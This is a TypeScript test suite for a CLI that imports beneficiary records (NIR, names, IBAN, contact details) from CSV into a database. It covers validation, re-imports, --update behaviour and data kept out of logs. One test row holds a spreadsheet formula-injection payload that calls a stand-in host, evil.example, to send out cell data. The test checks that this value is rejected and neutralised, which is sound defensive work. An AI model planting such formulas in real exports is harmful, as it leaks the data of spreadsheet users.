import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile, stat } from 'node:fs/promises';
import { findAccountByNir, readAccount } from '../../src/accounts/accounts.ts';
import { verifyAuditChain } from '../../src/audit/verify.ts';
import { readEvents } from '../../src/file/events.ts';
import { readBankDetails } from '../../src/file/projections/bank-details.ts';
import { backends } from '../support/databases.ts';
import { BENEFICIARY_HEADER, beneficiaryCells, beneficiaryRow, csvRow, ibanFor, nirFor } from '../../bench/import-data.ts';
import { importEnv, tableCounts, type ImportEnv } from './import-env.ts';

const ROWS = 25;
const csv = (rows: string[], header = BENEFICIARY_HEADER): string => `${header}\r\n${rows.map((r) => `${r}\r\n`).join('')}`;
const generated = (n: number, from = 0): string[] => Array.from({ length: n }, (_, i) => beneficiaryRow(from + i));

for (const backend of backends()) {
  describe(`sesame import beneficiaries on ${backend.name}`, { skip: backend.skip }, () => {
    let e: ImportEnv;
    let file: string;
    before(async () => {
      e = await importEnv(backend);
      file = await e.file('beneficiaries.csv', csv(generated(ROWS)));
    });
    after(() => e?.close());

    test('creates the accounts as createAccount does, bank details as their first file event, one audit event per batch', async () => {
      const r = await e.run(['import', 'beneficiaries', file, '--batch-size', '10']);
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stdout, /import beneficiaries: 25 rows: 25 created, 0 updated \(identity\), 0 unchanged, 0 changed, not applied, 0 rejected/);
      assert.match(r.stdout, /25 rows in [\d.]+ s: [\d,]+ rows\/s/);
      assert.match(r.stderr, /import beneficiaries: 100% · 25 rows/);

      const { nir, birthDate } = nirFor(0);
      const { account, bank, events } = await e.tx(async (tx, ring) => {
        const found = await findAccountByNir(tx, ring, nir);
        assert.ok(found);
        return {
          account: await readAccount(tx, ring, found.id),
          bank: await readBankDetails(tx, ring, found.id, new Date()),
          events: await readEvents(tx, ring, found.id),
        };
      });
      assert.equal(account?.status, 'pending_activation');
      assert.deepEqual(account?.identity, { nir, givenNames: 'Camille', familyName: 'Martin', usageName: null, birthDate, birthPlace: 'Paris', gender: 'male' });
      assert.deepEqual(account?.contact, { email: 'person0@example.org', phone: '06 12 34 00 00', postalAddress: '1 rue de la Paix, 75002 Paris' });
      assert.equal(bank?.iban, ibanFor(0));
      assert.equal(bank?.holder, 'Camille Martin');
      assert.equal(bank?.pending, false);
      assert.deepEqual(events.map((ev) => [ev.type, ev.actor, ev.seq]), [['bank-details.changed', { kind: 'agency', id: 'import' }, 1]]);
      // Every fourth generated row has no IBAN: no event, no bank details.
      const noIban = await e.tx(async (tx, ring) => {
        const found = await findAccountByNir(tx, ring, nirFor(3).nir);
        return found ? { bank: await readBankDetails(tx, ring, found.id, new Date()), events: await readEvents(tx, ring, found.id) } : null;
      });
      assert.deepEqual(noIban, { bank: null, events: [] });

      const counts = await tableCounts(e);
      assert.equal(counts.accounts, 25);
      assert.equal(counts.account_keys, 25);
      assert.equal(counts.file_events, 19);
      const batches = await e.owner<{ actor: string; payload: Record<string, number> }>(`SELECT actor, payload FROM audit_log WHERE type = 'import.batch' ORDER BY seq`);
      assert.deepEqual(batches.map((b) => [b.payload.firstLine, b.payload.lastLine, b.payload.created]), [[2, 11, 10], [12, 21, 10], [22, 26, 5]]);
      assert.match(batches[0]?.actor ?? '', /^operator:/);
      assert.deepEqual(await e.tx((tx) => verifyAuditChain(tx)), { ok: true, rows: (await e.owner(`SELECT 1 FROM audit_log`)).length });
      const runs = await e.owner<{ status: string; records_done: string }>(`SELECT status, records_done::text FROM import_runs`);
      assert.deepEqual(runs, [{ status: 'finished', records_done: '25' }]);
    });

    test('running the same file again changes nothing and says so; so does the same people written differently', async () => {
      const before = await tableCounts(e);
      const again = await e.run(['import', 'beneficiaries', file]);
      assert.equal(again.code, 0, again.stderr);
      assert.match(again.stdout, /25 rows: 0 created, 0 updated \(identity\), 25 unchanged/);
      assert.match(again.stdout, /nothing changed in the database/);
      assert.deepEqual(await tableCounts(e), before);

      // Semicolons, spaces in the NIR and the IBAN, lower case IBAN, a gender in lower case: same normalised rows.
      const reformatted = generated(5).map((row) => {
        const cells = row.replace(/"([^"]*)"/, (_, a: string) => a.replace(',', '§')).split(',');
        cells[0] = `${cells[0]?.slice(0, 1)} ${cells[0]?.slice(1, 3)} ${cells[0]?.slice(3)}`;
        cells[5] = cells[5]?.toLowerCase() ?? '';
        cells[9] = (cells[9] ?? '').toLowerCase().replace(/(.{4})/g, '$1 ').trim();
        return cells.join(';').replace('§', ',');
      });
      const other = await e.file('reformatted.csv', csv(reformatted, BENEFICIARY_HEADER.replaceAll(',', ';')));
      const r = await e.run(['import', 'beneficiaries', other]);
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stdout, /5 rows: 0 created, 0 updated \(identity\), 5 unchanged/);
      assert.deepEqual(await tableCounts(e), before);
    });

    test('rejected rows: line and rule on stderr, never the value; the row as read plus a reason in an owner-only rejects file; exit 1', async () => {
      // Row i of the generator with some cells replaced (0 nir, 1 given_names, 3 birth_date, 5 gender, 6 email, 9 iban, 10 iban_holder).
      const changed = (i: number, cells: Record<number, string>): string => csvRow(beneficiaryCells(i).map((c, k) => cells[k] ?? c));
      const nir101 = nirFor(101).nir;
      const badKey = `${nir101.slice(0, 13)}${nir101.slice(13) === '01' ? '02' : '01'}`;
      const badIban = `${ibanFor(105).slice(0, 26)}${ibanFor(105).endsWith('0') ? '1' : '0'}`;
      const formula = '=HYPERLINK("http://evil.example/?"&A1)';
      const rows = [
        beneficiaryRow(100),
        changed(101, { 0: badKey }), // line 3
        changed(102, { 3: '1999-02-30' }), // line 4
        changed(103, { 5: 'X' }), // line 5
        changed(104, { 6: 'person104.example.org' }), // line 6
        changed(105, { 9: badIban }), // line 7
        changed(107, { 9: '', 10: 'Someone Else' }), // line 8
        changed(108, { 1: formula }), // line 9
        '123,too few', // line 10
        beneficiaryRow(109).replace('Paris,', 'Pa"ris,'), // line 11: a stray quote
      ];
      const path = await e.file('bad.csv', csv(rows));
      const r = await e.run(['import', 'beneficiaries', path]);
      assert.equal(r.code, 1, r.stderr);
      assert.match(r.stdout, /10 rows: 1 created, 0 updated \(identity\), 0 unchanged, 0 changed, not applied, 9 rejected/);
      const lines = r.stderr.split('\n').filter((l) => /^line \d+:/.test(l));
      assert.deepEqual(lines.map((l) => l.split(':')[0]), ['line 3', 'line 4', 'line 5', 'line 6', 'line 7', 'line 8', 'line 9', 'line 10', 'line 11']);
      assert.match(lines[0] ?? '', /^line 3: nir: The key \(last 2 digits\) does not match/);
      assert.match(lines[1] ?? '', /^line 4: birth_date: must be a real date/);
      assert.match(lines[2] ?? '', /^line 5: gender: must be F, M or empty/);
      assert.match(lines[3] ?? '', /^line 6: email: is not a valid email address/);
      assert.match(lines[4] ?? '', /^line 7: iban: /);
      assert.match(lines[5] ?? '', /^line 8: iban_holder: given without an iban/);
      assert.match(lines[6] ?? '', /^line 9: given_names: must be 1 to 100 letters/);
      assert.match(lines[7] ?? '', /^line 10: csv: the row has 2 fields, the header 11/);
      assert.match(lines[8] ?? '', /^line 11: csv: a quote inside a field/);
      // No value of any row reaches the output: not a NIR, a name, an address, an IBAN.
      for (const value of [badKey, nirFor(102).nir, 'person104.example.org', badIban, 'Someone Else', 'HYPERLINK', 'rue de la Paix', 'Pa"ris']) {
        assert.ok(!r.stdout.includes(value) && !r.stderr.includes(value), `output repeats a value (${value.length} chars)`);
      }

      const rejectsPath = path.replace(/\.csv$/, '.rejects.csv');
      assert.match(r.stdout, new RegExp(`rejected rows: ${rejectsPath.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
      assert.equal((await stat(rejectsPath)).mode & 0o777, 0o600);
      const rejects = (await readFile(rejectsPath, 'utf8')).split('\r\n').filter(Boolean);
      assert.equal(rejects[0], `${BENEFICIARY_HEADER},reason`);
      assert.equal(rejects.length, 10);
      assert.equal(rejects[1], `${rows[1]},line 3: nir: The key (last 2 digits) does not match the number: please check what you entered.`);
      // The formula is neutralised with an apostrophe (and quoted, holding quotes and a comma).
      assert.match(rejects[7] ?? '', /^[^,]+,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1\)",/);
      assert.match(rejects[8] ?? '', /^123,too few,,,,,,,,,,"line 10: csv: the row has 2 fields, the header 11"$/);
      assert.match(rejects[9] ?? '', /^".*Pa""ris.*",,,,,,,,,,,line 11: csv: /);
      assert.equal((await tableCounts(e)).accounts, 26);
    });

    test('a NIR sent again with other data is reported and not applied; --update applies the identity, never contact or bank details', async () => {
      const changed = [
        beneficiaryRow(0).replace(',Martin,', ',Martin-Durand,'), // family name: identity
        beneficiaryRow(1).replace('person1@example.org', 'new.address@example.org'), // email: the citizen's
      ];
      const path = await e.file('changed.csv', csv(changed));
      const before = await tableCounts(e);
      const r = await e.run(['import', 'beneficiaries', path]);
      assert.equal(r.code, 1);
      assert.match(r.stdout, /2 rows: 0 created, 0 updated \(identity\), 0 unchanged, 2 changed, not applied, 0 rejected/);
      assert.match(r.stderr, /line 2: changed: this NIR was already imported with other data; not applied \(--update applies identity changes\)/);
      assert.deepEqual(await tableCounts(e), before);

      const u = await e.run(['import', 'beneficiaries', path, '--update']);
      assert.equal(u.code, 0, u.stderr);
      assert.match(u.stdout, /2 rows: 0 created, 1 updated \(identity\), 1 unchanged, 0 changed, not applied, 0 rejected/);
      assert.match(u.stderr, /line 3: note: email: differ from the beneficiary's file and were kept/);
      const [first, second] = await e.tx(async (tx, ring) =>
        Promise.all([0, 1].map(async (i) => readAccount(tx, ring, (await findAccountByNir(tx, ring, nirFor(i).nir))?.id ?? ''))),
      );
      assert.equal(first?.identity.familyName, 'Martin-Durand');
      assert.equal(second?.contact.email, 'person1@example.org');
      const again = await e.run(['import', 'beneficiaries', path, '--update', '--restart']);
      assert.match(again.stdout, /2 rows: 0 created, 0 updated \(identity\), 2 unchanged/);
    });

    test('usage_name (optional column): stored sealed, the family name again counts as none, checked like a name, changed only with --update; an empty cell changes nothing for rows imported without the column', async () => {
      const header = `${BENEFICIARY_HEADER},usage_name`;
      // Rows 5-7 were imported without the column: an empty usage_name is the same row.
      const same = await e.file('usage-same.csv', csv([5, 6, 7].map((i) => `${beneficiaryRow(i)},`), header));
      const unchanged = await e.run(['import', 'beneficiaries', same]);
      assert.equal(unchanged.code, 0, unchanged.stderr);
      assert.match(unchanged.stdout, /3 rows: 0 created, 0 updated \(identity\), 3 unchanged/);

      const fresh = [ROWS + 10, ROWS + 11, ROWS + 12];
      const rows = [`${beneficiaryRow(fresh[0] ?? 0)},Lefèvre-Martin`, `${beneficiaryRow(fresh[1] ?? 0)},${beneficiaryCells(fresh[1] ?? 0)[2] ?? ''}`, `${beneficiaryRow(fresh[2] ?? 0)},R2-D2`];
      const path = await e.file('usage.csv', csv(rows, header));
      const r = await e.run(['import', 'beneficiaries', path]);
      assert.equal(r.code, 1);
      assert.match(r.stdout, /3 rows: 2 created, 0 updated \(identity\), 0 unchanged, 0 changed, not applied, 1 rejected/);
      assert.match(r.stderr, /line 4: usage_name: must be 1 to 100 letters, spaces, hyphens or apostrophes/);
      assert.doesNotMatch(r.stderr, /R2-D2/);
      const read = (i: number) => e.tx(async (tx, ring) => readAccount(tx, ring, (await findAccountByNir(tx, ring, nirFor(i).nir))?.id ?? ''));
      assert.equal((await read(fresh[0] ?? 0))?.identity.usageName, 'Lefèvre-Martin');
      assert.equal((await read(fresh[1] ?? 0))?.identity.usageName, null, 'the family name again is no usage name');
      const sealed = await e.owner<{ usage_name: Uint8Array | null }>(`SELECT usage_name FROM accounts WHERE usage_name IS NOT NULL`);
      assert.equal(sealed.length, 1);
      assert.equal(Buffer.from(sealed[0]?.usage_name ?? []).includes(Buffer.from('Lefèvre')), false, 'encrypted at rest');

      // Another usage name for an account: identity, so only with --update.
      const moved = await e.file('usage-moved.csv', csv([`${beneficiaryRow(fresh[0] ?? 0)},Lefèvre`], header));
      const refused = await e.run(['import', 'beneficiaries', moved]);
      assert.match(refused.stdout, /1 rows: 0 created, 0 updated \(identity\), 0 unchanged, 1 changed, not applied/);
      const applied = await e.run(['import', 'beneficiaries', moved, '--update']);
      assert.equal(applied.code, 0, applied.stderr);
      assert.match(applied.stdout, /1 rows: 0 created, 1 updated \(identity\)/);
      assert.equal((await read(fresh[0] ?? 0))?.identity.usageName, 'Lefèvre');
    });

    test('a file that does not fit, or a wrong command line, is a usage error (exit 2) that quotes no cell', async () => {
      const headerless = await e.file('headerless.csv', csv(generated(2, 200)).split('\r\n').slice(1).join('\r\n'));
      const missing = await e.file('missing.csv', 'nir,given_names,birth_date\r\n');
      const twice = await e.file('twice.csv', 'nir,nir,given_names,family_name,birth_date\r\n');
      const empty = await e.file('empty.csv', '');
      const cases: [string[], RegExp][] = [
        [[headerless], /header \(line 1\): column 1 is not a known column \(the beneficiaries columns are: nir, given_names/],
        [[missing], /header \(line 1\): missing column family_name/],
        [[twice], /column nir appears twice/],
        [[empty], /the file is empty/],
        [[`${e.dir}/nowhere.csv`], /cannot read the file \(ENOENT\)/],
        [[], /the CSV file to import is required/],
        [[headerless, '--batch-size', '0'], /--batch-size must be an integer/],
        [[headerless, '--delimiter', 'tab'], /--delimiter must be/],
        [[headerless, '--bogus'], /Unknown option '--bogus'/],
      ];
      for (const [args, message] of cases) {
        const r = await e.run(['import', 'beneficiaries', ...args]);
        assert.equal(r.code, 2, `${args.join(' ')}: ${r.stderr}`);
        assert.match(r.stderr, message);
        assert.ok(!r.stderr.includes(nirFor(200).nir), 'the header error quotes a cell');
      }
      const payments = await e.run(['import', 'payments', headerless, '--update']);
      assert.equal(payments.code, 2);
    });
  });
}
